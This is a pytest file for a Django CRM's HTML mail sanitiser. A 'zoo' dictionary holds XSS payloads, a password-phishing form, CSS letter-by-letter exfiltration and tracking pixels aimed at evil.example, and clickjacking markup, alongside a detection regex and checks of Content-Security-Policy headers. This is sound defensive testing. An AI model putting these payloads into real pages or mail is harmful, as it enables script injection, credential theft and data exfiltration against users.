"""HTML mail made harmless: a zoo of mails that try what mails should not."""

import re

import pytest
from django.test import Client

from leads.models import Lead, Membership
from tests.factories import MessageDraftFactory
from timeline import recording
from timeline.entries import Channel
from timeline.mail import folded, has_remote_images, sanitised, split_quote, text_of

ZOO = {
    "script": "<script>alert(1)</script>",
    "script in an attribute": '<img src=x onerror="alert(1)"><p onclick="alert(1)">x</p>',
    "script in a link": '<a href="javascript:alert(1)">x</a><a href=" jAvA&#x09;script:y()">x</a>',
    "script as data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "script in a drawing": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "script in mathematics": '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    "broken markup": '<<script>alert(1)//<</script><img """><script>alert(1)</script>">',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "form": '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "frame": '<iframe src="https://evil.example"></iframe><object data="x"></object><embed>',
    "style that asks letter by letter": (
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>"
        '<style>@import "https://evil.example/x.css";</style>'
    ),
    "style that loads": '<p style="background-image:url(https://evil.example/p.png)">x</p>',
    "style that loads by shorthand": '<p style="background:url(//evil.example/p.png)">x</p>',
    "style that hides its address": r'<p style="background:u\72l(https://evil.example)">x</p>',
    "clickjacking": (
        '<a href="https://evil.example" style="position:fixed;inset:0;opacity:0;z-index:9">x</a>'
    ),
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "pixel": '<img src="https://evil.example/o.gif" width="1" height="1">',
    "pixel by another attribute": '<img srcset="https://evil.example/o.gif 1x" lowsrc="//evil">',
    "sound": '<audio src="https://evil.example/a.mp3" autoplay></audio><video poster="//e">',
    "comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "template": "<template><script>alert(1)</script></template>",
    "ids of the page": '<div id="timeline" name="live" class="toast">x</div>',
}  # fmt: skip

HARM = re.compile(
    r"<(?!/?(?:a|p|img|div|span|b)\b)[a-z!]|\son\w+\s*=|javascript:|data:text|url\(|position"
    r"|opacity|z-index|@import|evil\.example/(?:o|p|a)\b|\bid=|\bname=|\bclass=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("animal", ZOO.values(), ids=ZOO.keys())
def test_nothing_of_the_zoo_gets_through(animal: str) -> None:
    made_harmless = sanitised(f"<p>before</p>{animal}<p>after</p>")
    assert not HARM.search(made_harmless), made_harmless
    assert "before" in made_harmless


@pytest.mark.parametrize("animal", ZOO.values(), ids=ZOO.keys())
def test_with_pictures_nothing_but_pictures_loads(animal: str) -> None:
    made_harmless = sanitised(animal, images=True)
    loads = re.findall(r'\b(?:src|href|srcset|poster)="([^"]*)"', made_harmless)
    assert "url(" not in made_harmless
    assert all(address.startswith("https://evil.example") for address in loads)
    assert "<script" not in made_harmless


def test_an_honest_mail_stays_as_it_was() -> None:
    html = (
        '<div style="color:#222;font-family:Arial"><p>Hi <b>Ana</b>,</p>'
        '<table style="border-collapse:collapse"><tbody><tr><td style="padding:6px">1</td></tr>'
        "</tbody></table><ul><li>one</li></ul></div>"
    )
    text = sanitised(html)
    for kept in ("<b>Ana</b>", "color:#222", "border-collapse:collapse", "<li>one</li>"):
        assert kept in text


def test_links_open_elsewhere_and_tell_nobody_where_from() -> None:
    link = sanitised('<a href="https://example.com" target="_top">x</a>')
    assert 'target="_blank"' in link
    assert "noreferrer" in link
    assert "_top" not in link


def test_pictures_from_elsewhere_are_held_back_and_those_within_are_not() -> None:
    inline = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Logo">'
    remote = '<img src="https://images.example.com/logo.png" alt="Logo" width="120">'
    assert "iVBOR" in sanitised(inline)
    assert 'alt="Logo"' in sanitised(remote)
    assert "images.example.com" not in sanitised(remote)
    assert "images.example.com" in sanitised(remote, images=True)
    assert has_remote_images(remote)
    assert not has_remote_images(inline)
    assert "svg" not in sanitised('<img src="data:image/svg+xml;base64,PHN2Zz4=">')


def test_quotations_fold_and_those_within_them_do_not_again() -> None:
    html = "<p>New</p><blockquote>Old<blockquote>Older</blockquote></blockquote><p>End</p>"
    assert folded(html, "Quoted") == (
        "<p>New</p><details><summary>Quoted</summary>"
        "<blockquote>Old<blockquote>Older</blockquote></blockquote></details><p>End</p>"
    )


@pytest.mark.parametrize(
    "header",
    [
        "On Mon, 3 Nov 2025, Ana Rojas <ana@example.com> wrote:\n> Hello",
        "El lun, 3 nov 2025 a las 10:00, Ana (<ana@example.com>) escribió:\n> Hola",
        "> Hello\n> there",
        "-----Original Message-----\nFrom: Ana",
    ],
)
def test_what_a_mail_quotes_is_told_from_what_it_says(header: str) -> None:
    said, quoted = split_quote(f"Yes, please:\n\nten of them.\n\n{header}")
    assert said == "Yes, please:\n\nten of them."
    assert quoted == header


def test_a_mail_without_a_text_is_read_by_its_words() -> None:
    html = "<style>p{}</style><p>Hi &amp; welcome</p><p>One<br>two</p><script>x()</script>"
    assert text_of(html).split() == ["Hi", "&", "welcome", "One", "two"]


# --- The frame's own document ---------------------------------------------------------------------


def test_the_frame_has_a_policy_under_which_nothing_runs_and_nothing_loads(
    owner: Membership, lead: Lead
) -> None:
    draft = MessageDraftFactory.build(
        lead_id=lead.pk, channel=Channel.EMAIL, html="".join(ZOO.values())
    )
    recording.record(lead.account_id, draft)
    entry = recording.entry_id(lead.account_id, draft)
    browser = Client(HTTP_HOST="localhost")
    browser.force_login(owner.user)
    answer = browser.get(f"/leads/{lead.pk}/mail/{entry}/")
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "img-src data:;" in policy
    assert "sandbox allow-same-origin" in policy
    assert "allow-scripts" not in policy
    assert "frame-ancestors 'self'" in policy
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    assert answer["Referrer-Policy"] == "no-referrer"
    assert "Load pictures" in answer.content.decode()
    with_pictures = browser.get(f"/leads/{lead.pk}/mail/{entry}/?images=1")
    assert "img-src data: https: http:;" in with_pictures["Content-Security-Policy"]
    assert "Load pictures" not in with_pictures.content.decode()


def test_what_is_no_html_mail_has_no_frame(owner: Membership, lead: Lead) -> None:
    draft = MessageDraftFactory.build(lead_id=lead.pk)
    recording.record(lead.account_id, draft)
    browser = Client(HTTP_HOST="localhost")
    browser.force_login(owner.user)
    entry = recording.entry_id(lead.account_id, draft)
    assert browser.get(f"/leads/{lead.pk}/mail/{entry}/").status_code == 404
